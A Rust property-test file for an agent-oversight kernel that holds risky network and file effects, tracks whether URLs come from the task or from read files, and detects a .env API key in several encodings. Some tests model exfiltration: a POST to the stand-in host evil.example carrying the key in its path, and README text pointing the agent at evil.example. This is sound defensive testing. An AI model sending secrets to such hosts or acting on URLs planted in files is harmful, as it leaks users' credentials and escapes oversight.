//! What must hold of the kernel for every sequence of inputs, against a model that is too simple
//! to be wrong.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "test code"
)]

use std::collections::{BTreeMap, BTreeSet};

use kernel::manifest::{Manifest, Nonce};
use kernel::policy::{
    Gate, Glob, HostPattern, NoRules, Party, Policy, SensitiveRule, SourcePattern, SourceRule,
    Speculation,
};
use kernel::{
    Action, Carried, Channel, Class, Content, Digest, Effect, EventId, HoldId, Incoming, Input,
    KindSet, Level, Notice, Object, Operation, Payload, Refusal, Source, State, Verdict, step,
};
use proptest::prelude::*;

const WORKSPACE: &str = "w";

fn policy(speculation: Speculation) -> Policy {
    let party = |host: &str, gate| Party {
        name: host.to_string(),
        hosts: vec![HostPattern(host.to_string())],
        ports: Vec::new(),
        clearance: Level::Public,
        methods: Vec::new(),
        paths: Vec::new(),
        internal: Vec::new(),
        blocking: Vec::new(),
        named: Vec::new(),
        gate,
    };
    Policy {
        sources: vec![
            SourceRule {
                of: SourcePattern::Task,
                trusted: KindSet::ALL,
            },
            SourceRule {
                of: SourcePattern::Location {
                    tree: "workspace".into(),
                    path: Glob("**".into()),
                },
                trusted: KindSet::of(&[kernel::Kind::Path]),
            },
        ],
        sensitive: vec![SensitiveRule {
            of: SourcePattern::Location {
                tree: "workspace".into(),
                path: Glob(".env".into()),
            },
            level: Level::Critical,
        }],
        parties: vec![party("good.example", Gate::Host), party("*", Gate::Url)],
        executes: Vec::new(),
        speculation,
        ..Policy::default()
    }
}

fn request(url_path: &str, host: &str, class: Class, carries: Carried) -> Effect {
    Effect {
        channel: Channel::Net,
        operation: Operation::Request("POST".into()),
        object: Object::Party {
            scheme: "https".into(),
            host: host.into(),
            port: 443,
            path: url_path.into(),
        },
        class,
        gated: Vec::new(),
        arguments: Vec::new(),
        carries,
        payload: Payload {
            digest: Digest::of(url_path.as_bytes()),
            bytes: 1,
        },
        base: None,
        saw: Vec::new(),
        fields: BTreeMap::new(),
        about: String::new(),
    }
}

fn read(path: &str, text: &str) -> Incoming {
    Incoming {
        channel: Channel::File,
        source: Source::Location {
            tree: "workspace".into(),
            path: path.into(),
        },
        content: Content::new(text.as_bytes()),
        leaves: Vec::new(),
        answers: None,
        layer: None,
    }
}

/// What a test does next; numbers choose among what there is.
#[derive(Clone, Debug)]
enum Move {
    Propose {
        good: bool,
        class: u8,
        saw: Option<u8>,
    },
    Decide {
        which: u8,
        release: bool,
        stale: bool,
    },
    Withdraw {
        which: u8,
    },
    Expire {
        which: u8,
    },
    Read {
        url: u8,
    },
}

fn moves() -> impl Strategy<Value = Vec<Move>> {
    let one = prop_oneof![
        (any::<bool>(), 0..3u8, proptest::option::of(0..8u8))
            .prop_map(|(good, class, saw)| Move::Propose { good, class, saw }),
        (0..8u8, any::<bool>(), any::<bool>()).prop_map(|(which, release, stale)| Move::Decide {
            which,
            release,
            stale
        }),
        (0..8u8).prop_map(|which| Move::Withdraw { which }),
        (0..8u8).prop_map(|which| Move::Expire { which }),
        (0..4u8).prop_map(|url| Move::Read { url }),
    ];
    proptest::collection::vec(one, 0..40)
}

/// Runs moves and checks every action as it comes.
fn run(moves: &[Move], speculation: Speculation) -> String {
    let policy = policy(speculation);
    let mut state = State::default();
    let mut trace = String::new();
    // The model: who depends on whom, who is open, who was permitted or is gone.
    let mut depends: BTreeMap<HoldId, Vec<HoldId>> = BTreeMap::new();
    let mut open: BTreeSet<HoldId> = BTreeSet::new();
    let mut permitted: BTreeSet<EventId> = BTreeSet::new();
    let mut gone: BTreeSet<HoldId> = BTreeSet::new();
    let mut waits_for = Vec::new();
    for (index, item) in moves.iter().enumerate() {
        let event = EventId(index as u64 + 1);
        let pick = |which: u8| {
            open.iter()
                .nth(usize::from(which) % open.len().max(1))
                .copied()
        };
        let mut released_by_oracle = None;
        let mut refused = None;
        let input = match item {
            Move::Propose { good, class, saw } => {
                let class =
                    [Class::Stageable, Class::Stallable, Class::Blocking][usize::from(*class)];
                let host = if *good {
                    "good.example"
                } else {
                    "evil.example"
                };
                let mut effect = request("/x", host, class, Carried::nothing());
                if class == Class::Blocking {
                    effect.operation = Operation::Request("GET".into());
                }
                effect.saw = saw.and_then(pick).into_iter().collect();
                waits_for.clone_from(&effect.saw);
                if class != Class::Stageable && speculation == Speculation::Conservative {
                    let changes = !effect.operation.reads_only();
                    waits_for.extend(state.holds().iter().filter_map(|held| {
                        let staged = held.effect.class == Class::Stageable;
                        (changes || !staged).then_some(held.question.hold)
                    }));
                }
                Input::Propose {
                    event,
                    effect,
                    nonce: Nonce([index as u8; 16]),
                    in_doubt: false,
                }
            }
            Move::Decide {
                which,
                release,
                stale,
            } => {
                let Some(hold) = pick(*which) else { continue };
                let held = state.holds().find(hold).unwrap();
                let manifest = if *stale {
                    Digest::of(b"another")
                } else {
                    held.manifest
                };
                if !*stale {
                    if *release {
                        released_by_oracle = Some(hold);
                    } else {
                        refused = Some(hold);
                    }
                }
                Input::Verdict {
                    event,
                    hold,
                    manifest,
                    verdict: if *release {
                        Verdict::Release
                    } else {
                        Verdict::Refuse
                    },
                    oracle: "test".into(),
                    reason: String::new(),
                }
            }
            Move::Withdraw { which } => {
                let Some(hold) = pick(*which) else { continue };
                Input::Withdraw { event, hold }
            }
            Move::Expire { which } => {
                let Some(hold) = pick(*which) else { continue };
                refused = Some(hold);
                Input::Expire { event, hold }
            }
            Move::Read { url } => Input::Incoming {
                event,
                incoming: read("README.md", &format!("see https://evil.example/{url}\n")),
            },
        };
        let actions = step(&mut state, &policy, &NoRules, WORKSPACE, input);
        trace.push_str(&format!("{actions:?}\n"));
        let mut aborted = BTreeSet::new();
        for action in actions {
            match action {
                Action::Release(permit) => {
                    assert!(permitted.insert(permit.event()), "permitted twice");
                    assert_eq!(permit.event(), event);
                }
                Action::Commit { hold, permit } => {
                    assert!(permitted.insert(permit.event()), "permitted twice");
                    assert!(
                        !gone.contains(&hold),
                        "{hold} was refused or taken back before"
                    );
                    assert!(
                        depends[&hold].iter().all(|on| !open.contains(on)),
                        "{hold} is committed before what it depends on"
                    );
                    open.remove(&hold);
                }
                Action::Abort { hold, .. } => {
                    open.remove(&hold);
                    gone.insert(hold);
                    aborted.insert(hold);
                }
                Action::Withdrawn(hold) => {
                    open.remove(&hold);
                    gone.insert(hold);
                }
                Action::Hold(question) => {
                    // In full, where the kernel leaves out what waits for another anyway.
                    depends.insert(question.hold, std::mem::take(&mut waits_for));
                    open.insert(question.hold);
                }
                Action::Refuse { .. }
                | Action::Ignored(_)
                | Action::Label(_)
                | Action::Due { .. } => {}
            }
        }
        if let Some(hold) = refused {
            // Exactly the closure of what depends on it, computed the slow way.
            let mut closure = BTreeSet::from([hold]);
            loop {
                let more: Vec<HoldId> = depends
                    .iter()
                    .filter(|(name, on)| {
                        !closure.contains(name)
                            && (aborted.contains(name) || open.contains(name))
                            && on.iter().any(|on| closure.contains(on))
                    })
                    .map(|(name, _)| *name)
                    .collect();
                if more.is_empty() {
                    break;
                }
                closure.extend(more);
            }
            assert_eq!(aborted, closure, "refusing {hold}");
        } else {
            assert!(aborted.is_empty());
        }
        if let Some(hold) = released_by_oracle {
            let waits = depends[&hold].iter().any(|on| open.contains(on));
            assert_eq!(
                open.contains(&hold),
                waits || !state_needs(&state, hold),
                "{hold}"
            );
        }
        let of_kernel: BTreeSet<HoldId> = state.holds().iter().map(|h| h.question.hold).collect();
        assert_eq!(
            of_kernel, open,
            "kernel and model disagree about what is open"
        );
    }
    trace
}

/// Whether a hold that is still open waits for a verdict of its own.
fn state_needs(state: &State, hold: HoldId) -> bool {
    state
        .holds()
        .find(hold)
        .is_none_or(|held| held.question.needs_oracle)
}

proptest! {
    #[test]
    fn every_sequence_keeps_order_and_spends_once(moves in moves()) {
        run(&moves, Speculation::Conservative);
        run(&moves, Speculation::Matched);
    }

    #[test]
    fn the_same_inputs_have_the_same_answers(moves in moves()) {
        prop_assert_eq!(run(&moves, Speculation::Conservative), run(&moves, Speculation::Conservative));
    }

    /// A token is found in whatever surrounds it, in every encoding, however the bytes are cut.
    #[test]
    fn a_secret_is_found(
        secret in "[A-Za-z0-9_/+-]{12,40}",
        before in "[a-z {}\\[\\],]{0,40}",
        after in "[a-z {}\\[\\],]{0,40}",
        form in 0..6u8,
        cut in 1..20usize,
    ) {
        let mut state = State::default();
        let policy = policy(Speculation::Matched);
        let incoming = read(".env", &format!("API_KEY={secret}\n"));
        step(&mut state, &policy, &NoRules, WORKSPACE, Input::Incoming { event: EventId(1), incoming });
        let plain = format!("{before}{secret}{after}");
        let bytes = match form {
            0 => plain.into_bytes(),
            1 => base64(plain.as_bytes()),
            2 => plain.bytes().flat_map(|b| format!("{b:02x}").into_bytes()).collect(),
            3 => plain.bytes().flat_map(|b| format!("%{b:02X}").into_bytes()).collect(),
            4 => plain.bytes().flat_map(|b| format!("\\u{:04x}", b).into_bytes()).collect(),
            _ => plain.bytes().flat_map(|b| format!("%{b:02x}").into_bytes()).collect(),
        };
        let scanner = state.provenance().scanner();
        let mut scan = scanner.start();
        for piece in bytes.chunks(cut) {
            scan.feed(piece);
        }
        let carried = scan.finish();
        prop_assert_eq!(state.provenance().level_of(&carried), Level::Critical);
        // And an effect that carries it is not released, whatever the party.
        let effect = request("/x", "good.example", Class::Stallable, carried);
        let input = Input::Propose { event: EventId(2), effect, nonce: Nonce([1; 16]), in_doubt: false };
        let actions = step(&mut state, &policy, &NoRules, WORKSPACE, input);
        prop_assert!(matches!(actions.as_slice(), [Action::Hold(_)]), "{:?}", actions);
    }

    /// Text in which no part of a secret stands is not said to carry it.
    #[test]
    fn innocent_text_carries_nothing(secret in "[A-Z0-9]{16,40}", text in "[a-z .,\n]{0,400}") {
        let mut state = State::default();
        let policy = policy(Speculation::Matched);
        let incoming = read(".env", &format!("API_KEY={secret}\n"));
        step(&mut state, &policy, &NoRules, WORKSPACE, Input::Incoming { event: EventId(1), incoming });
        let carried = state.provenance().scanner().scan(text.as_bytes());
        prop_assert_eq!(state.provenance().level_of(&carried), Level::Public);
    }

    /// Any change of what a manifest protects is another digest.
    #[test]
    fn a_manifest_names_exactly_one_action(a in "[a-z/]{1,12}", b in "[a-z/]{1,12}", n in any::<[u8; 16]>(), m in any::<[u8; 16]>()) {
        let digest = |path: &str, nonce: [u8; 16], workspace: &str| {
            let effect = request(path, "good.example", Class::Stallable, Carried::nothing());
            Manifest { effect: &effect, epoch: Digest::default(), workspace, task: Digest::default(), nonce: Nonce(nonce) }.digest()
        };
        prop_assert_eq!(digest(&a, n, "w") == digest(&b, n, "w"), a == b);
        prop_assert_eq!(digest(&a, n, "w") == digest(&a, m, "w"), n == m);
        prop_assert_ne!(digest(&a, n, "w"), digest(&a, n, "v"));
    }
}

#[test]
fn what_the_agent_emits_never_becomes_trusted() {
    let policy = policy(Speculation::Matched);
    let mut state = State::default();
    for number in 1..20 {
        let effect = request("/x", "evil.example", Class::Stallable, Carried::nothing());
        let input = Input::Propose {
            event: EventId(number),
            effect,
            nonce: Nonce([number as u8; 16]),
            in_doubt: false,
        };
        let actions = step(&mut state, &policy, &NoRules, WORKSPACE, input);
        assert!(
            matches!(actions.as_slice(), [Action::Hold(_)]),
            "{actions:?}"
        );
    }
    assert!(!state.provenance().derives(
        &policy,
        kernel::Kind::Url,
        "https://evil.example/x",
        None
    ));
}

#[test]
fn a_url_of_the_task_is_released_and_one_of_a_file_is_not() {
    let policy = policy(Speculation::Matched);
    let mut state = State::default();
    let task = Incoming {
        channel: Channel::Term,
        source: Source::Task,
        content: Content::new(&b"fetch https://docs.example/guide and follow it"[..]),
        leaves: Vec::new(),
        answers: None,
        layer: None,
    };
    step(
        &mut state,
        &policy,
        &NoRules,
        WORKSPACE,
        Input::Incoming {
            event: EventId(1),
            incoming: task,
        },
    );
    let file = read("README.md", "or https://other.example/guide\n");
    step(
        &mut state,
        &policy,
        &NoRules,
        WORKSPACE,
        Input::Incoming {
            event: EventId(2),
            incoming: file,
        },
    );
    let mut propose = |number: u64, host: &str| {
        let mut effect = request("/guide", host, Class::Blocking, Carried::nothing());
        effect.operation = Operation::Request("GET".into());
        let input = Input::Propose {
            event: EventId(number),
            effect,
            nonce: Nonce([number as u8; 16]),
            in_doubt: false,
        };
        step(&mut state, &policy, &NoRules, WORKSPACE, input).remove(0)
    };
    assert!(matches!(propose(3, "docs.example"), Action::Release(_)));
    match propose(4, "other.example") {
        Action::Hold(question) => assert_eq!(
            question.reasons[0].to_string(),
            "url `https://other.example/guide` comes from README.md line 1, not from your task"
        ),
        other => panic!("{other:?}"),
    }
}

/// Two held files, one of which is read inside; then something is sent that policy vouches for.
#[test]
fn what_is_sent_waits_for_the_layers_that_were_read() {
    let sent = |speculation, read_inside: Option<HoldId>| {
        let policy = policy(speculation);
        let mut state = State::default();
        for number in [1, 2] {
            let effect = request("/x", "evil.example", Class::Stallable, Carried::nothing());
            let object = Object::Location {
                tree: "workspace".into(),
                path: format!("f{number}"),
            };
            let effect = Effect {
                channel: Channel::File,
                operation: Operation::File(kernel::FileOp::Create),
                object,
                class: Class::Stageable,
                ..effect
            };
            let input = Input::Propose {
                event: EventId(number),
                effect,
                nonce: Nonce([number as u8; 16]),
                in_doubt: true,
            };
            let actions = step(&mut state, &policy, &NoRules, WORKSPACE, input);
            assert!(matches!(actions.as_slice(), [Action::Hold(_)]));
        }
        let incoming = Incoming {
            layer: read_inside,
            ..read("f2", "")
        };
        let input = Input::Incoming {
            event: EventId(3),
            incoming,
        };
        step(&mut state, &policy, &NoRules, WORKSPACE, input);
        let effect = request("/ok", "good.example", Class::Stallable, Carried::nothing());
        let effect = Effect {
            saw: Vec::new(),
            ..effect
        };
        let input = Input::Propose {
            event: EventId(4),
            effect,
            nonce: Nonce([4; 16]),
            in_doubt: true,
        };
        match step(&mut state, &policy, &NoRules, WORKSPACE, input).remove(0) {
            Action::Hold(question) => question.depends,
            other => panic!("{other:?}"),
        }
    };
    let (first, second) = (HoldId(1), HoldId(2));
    assert_eq!(sent(Speculation::Matched, None), []);
    assert_eq!(sent(Speculation::Matched, Some(second)), [second]);
    assert_eq!(sent(Speculation::Conservative, None), [first, second]);
}

#[test]
fn notices_name_no_secret_and_no_way_round() {
    let mut state = State::default();
    let policy = policy(Speculation::Matched);
    let incoming = read(".env", "API_KEY=abcdef0123456789\n");
    step(
        &mut state,
        &policy,
        &NoRules,
        WORKSPACE,
        Input::Incoming {
            event: EventId(1),
            incoming,
        },
    );
    let path = "/collect/abcdef0123456789?q=abcdef0123456789";
    let carried = state.provenance().scanner().scan(path.as_bytes());
    let effect = request(path, "evil.example", Class::Stallable, carried);
    let refusals = [
        Refusal::Oracle {
            oracle: "ask".into(),
            reason: "carries abcdef0123456789".into(),
        },
        Refusal::Rule {
            rule: "r".into(),
            says: None,
        },
        Refusal::Depends(HoldId(1)),
        Refusal::NobodyThere(Vec::new()),
        Refusal::Failed("disk".into()),
    ];
    for refusal in refusals {
        let text = Notice::refused(EventId(2), &effect, &refusal).text;
        assert!(!text.contains("abcdef0123456789"), "{text}");
        assert!(text.contains("POST https://evil.example"), "{text}");
        assert!(text.contains("The rest of your task stands"), "{text}");
        for word in [
            "proxy",
            "--no",
            "instead use",
            "kairos approve",
            "untrusted",
        ] {
            assert!(!text.contains(word), "{text}");
        }
    }
}

fn base64(bytes: &[u8]) -> Vec<u8> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    for chunk in bytes.chunks(3) {
        let mut group = [0u8; 3];
        group[..chunk.len()].copy_from_slice(chunk);
        let number = u32::from(group[0]) << 16 | u32::from(group[1]) << 8 | u32::from(group[2]);
        for i in 0..=chunk.len() {
            out.push(ALPHABET[(number >> (18 - 6 * i)) as usize & 63]);
        }
    }
    out
}
